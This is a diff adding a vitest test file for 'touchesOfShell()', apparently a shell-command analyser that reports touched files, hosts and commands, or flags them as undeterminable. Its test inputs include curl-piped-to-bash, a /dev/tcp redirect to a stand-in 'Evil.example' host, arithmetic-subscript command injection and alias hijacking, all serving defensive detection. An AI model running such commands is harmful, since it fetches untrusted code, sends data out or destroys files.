@@ -1,0 +1,101 @@
+import { describe } from 'vitest';
+import { table } from './shell-touches.ts';
+
+describe('touchesOfShell()', () => {
+  table('code in strings is read, or cannot be told', [
+    ["bash -c 'rm x; ls'", "bash -c 'rm x; ls'", 'ls', 'rm x'],
+    ["sh -c 'rm x'", 'rm x', "sh -c 'rm x'"],
+    ["bash -lc 'rm x'", "bash -lc 'rm x'", 'rm x'],
+    ["bash --norc -e -o pipefail -c 'rm x'", "bash --norc -e -o pipefail -c 'rm x'", 'rm x'],
+    ['bash -c "rm $x"', '?', 'bash -c "rm $x"'],
+    ['bash -c "$(a)"', '?', 'a', 'bash -c "$(a)"'],
+    [`bash -c "sh -c 'rm x'"`, `bash -c 'sh -c 'rm x''`, 'rm x', "sh -c 'rm x'"],
+    ["bash -ic 'rm x'", '?', "bash -ic 'rm x'"],
+    ["eval 'rm x'", "eval 'rm x'", 'rm x'],
+    ['eval rm x', 'eval rm x', 'rm x'],
+    ['eval "$x"', '?', 'eval "$x"'],
+    ["trap 'rm x' EXIT", 'rm x', "trap 'rm x' EXIT"],
+    ['bash x.sh', 'bash x.sh'],
+    ['bash $x', '?', 'bash $x'],
+    ['bash < x.sh', '<x.sh', '?', 'bash'],
+    ['curl https://x.example | bash', '?', 'bash', 'curl https://x.example'],
+    ['bash <(curl x)', '?', 'bash <(curl x)', 'curl x'],
+    ['bash /dev/stdin', '?', 'bash /dev/stdin'],
+    ["bash <<'E'\nrm x\nE", 'bash', 'rm x'],
+    ['bash <<E\nrm $x\nE', '?', 'bash'],
+    ["bash <<< 'rm x'", 'bash', 'rm x'],
+    ['source ./env.sh', 'source ./env.sh'],
+    ['. "$x"', '. "$x"', '?'],
+    ["sh -c '[[ a || rm x ]]'", '?', "sh -c '[[ a || rm x ]]'"],
+    ["sh -c '((rm x))'", '?', "sh -c '((rm x))'"],
+    ["dash -c \"echo $'a\\'; rm x; echo '\"", '?', "dash -c 'echo $'a\\'; rm x; echo ''", "echo 'a'; rm x; echo '"],
+  ]);
+
+  table('text that runs when it is computed with cannot be told', [
+    ["x='a[$(rm y)]'; echo $((x))", '?', 'echo $((x))', "'x=a[$(rm y)]'"],
+    ['x=$(cat f); echo $((x + 1))', '?', 'cat f', 'echo $((x + 1))', 'x=$(cat f)'],
+    ['i=0; echo $((i + 1))', 'echo $((i + 1))', 'i=0'],
+    ['for i in {1..3}; do echo $((i * 2)); done', 'echo $((i * 2))'],
+    ['for ((i = 0; i < 3; i++)); do a; done', 'a'],
+    ['echo $((1 + 2))', 'echo $((1 + 2))'],
+    ["read x <<< 'a[$(rm y)]'; ((x))", '?', 'read x'],
+    ["let 'a[$(rm y)]=1'", "let 'a[$(rm y)]=1'", '?'],
+    ["declare 'a[$(rm y)]=1'", "declare 'a[$(rm y)]=1'", '?'],
+    ["printf -v 'a[$(rm y)]' x", "printf -v 'a[$(rm y)]' x", '?'],
+    ["test -v 'a[$(rm y)]'", "test -v 'a[$(rm y)]'", '?'],
+    ["[[ -v a['$(rm y)'] ]]", '?'],
+    ['[[ $x -eq 1 ]] && a', 'a'],
+    ['read x; [[ $x -eq 1 ]] && a', '?', 'a', 'read x'],
+    ['echo ${x@P}', '?', 'echo ${x@P}'],
+    ['echo ${!x}', '?', 'echo ${!x}'],
+    ['printf "%s" "$x"', 'printf %s "$x"'],
+    ["awk '{print $(NF-1)}' f", "awk '{print $(NF-1)}' f"],
+  ]);
+
+  table('what changes the meaning of words cannot be told', [
+    ["alias ls='rm x'", '?', "alias 'ls=rm x'"],
+    ['cd() { a; }; cd x', '?', 'a', 'cd x'],
+    ['hash -p ./x ls; ls', '?', 'hash -p ./x ls', 'ls'],
+    ['shopt -s expand_aliases', '?', 'shopt -s expand_aliases'],
+    ['declare -n y=x', '?', 'declare -n y=x'],
+    ['c\\d x', '?', 'cd x'],
+  ]);
+
+  table('files it is redirected to are touched', [
+    ['a > x', '>x', 'a'],
+    ['a >> ./x', '>x', 'a'],
+    ['a >| x/y', '>x/y', 'a'],
+    ['a &> x', '>x', 'a'],
+    ['a >& x', '>x', 'a'],
+    ['a <> x', '>x', 'a'],
+    ['a < x', '<x', 'a'],
+    ['> x', '>x'],
+    ['a 2>&1 >/dev/null', 'a'],
+    ['a 2>&- 3<&0', 'a'],
+    ['a {fd}> x', '>x', 'a'],
+    ['{ a; b; } > x', '>x', 'a', 'b'],
+    ['while read l; do a; done < x > y', '<x', '>y', 'a', 'read l'],
+    ['a > /etc/x', '>/etc/x', 'a'],
+    ['a > ../x', '>../x', 'a'],
+    ['a > x/../y', '?', 'a'],
+    ['a > ~/x', '?', 'a'],
+    ['a > $x', '?', 'a'],
+    ['a > *.txt', '?', 'a'],
+    ['a > "b c"', '>b c', 'a'],
+    ['a > /dev/tcp/Evil.example/80', '@evil.example', 'a'],
+  ]);
+
+  table('a change of folder is followed', [
+    ['cd x && a > y', '>x/y', 'a', 'cd x'],
+    ['cd x; a > y', '>x/y', '>y', 'a', 'cd x'],
+    ['cd x || a > y', '>x/y', '>y', 'a', 'cd x'],
+    ['cd x && a; b > y', '>x/y', '>y', 'a', 'b', 'cd x'],
+    ['cd $x && a > y', '?', 'a', 'cd $x'],
+    ['cd && a > y', '?', 'a', 'cd'],
+    ['cd - && a > /y', '>/y', 'a', 'cd -'],
+    ['cd .. && a > y', '>../y', 'a', 'cd ..'],
+    ['cd /tmp && a > y', '>/tmp/y', 'a', 'cd /tmp'],
+    ['for i in 1 2; do a > y; cd ..; done', '?', 'a', 'cd ..'],
+    ['pushd x; a > y', '?', 'a', 'pushd x'],
+  ]);
+});
